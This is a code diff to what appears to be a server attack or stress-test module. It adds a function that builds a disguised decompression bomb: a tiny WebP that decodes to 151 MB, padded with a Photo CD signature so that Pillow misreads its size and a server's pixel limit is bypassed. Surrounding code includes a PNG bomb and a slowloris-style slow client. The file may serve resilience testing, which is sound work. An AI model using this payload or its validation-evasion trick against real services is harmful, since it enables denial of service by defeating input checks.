@@ -18,6 +18,21 @@ def png_bomb(width, height, pixels=True):
             + chunk(b"IDAT", rows) + chunk(b"IEND", b""))
 
 
+def disguised_bomb(width=7100, height=7100):
+    """A lossless WebP of width x height black pixels (7100x7100: 50.4 megapixels, just over
+    the server's limit, in 2 KB) followed by Photo CD's signature at byte 2048: Pillow's
+    PCD plugin, which checks no first bytes, would call it a 768x512 Photo CD image, while
+    OpenCV decodes the WebP (151 MB)."""
+    import io
+    from PIL import Image
+    buffer = io.BytesIO()
+    Image.new("RGB", (width, height)).save(buffer, "WEBP", lossless=True)
+    webp = buffer.getvalue()
+    if len(webp) > 2048:
+        raise ValueError(f"a {width}x{height} WebP takes {len(webp)} bytes: too many to put the signature after it")
+    return webp + bytes(2048 - len(webp)) + b"PCD_" + bytes(1600)
+
+
 async def slow_client(host, port, until, byte_seconds=0.5):
     """One connection that sends a request's headers a byte every `byte_seconds` until the
     server closes it (then it connects again) or the loop time passes `until`. Returns how
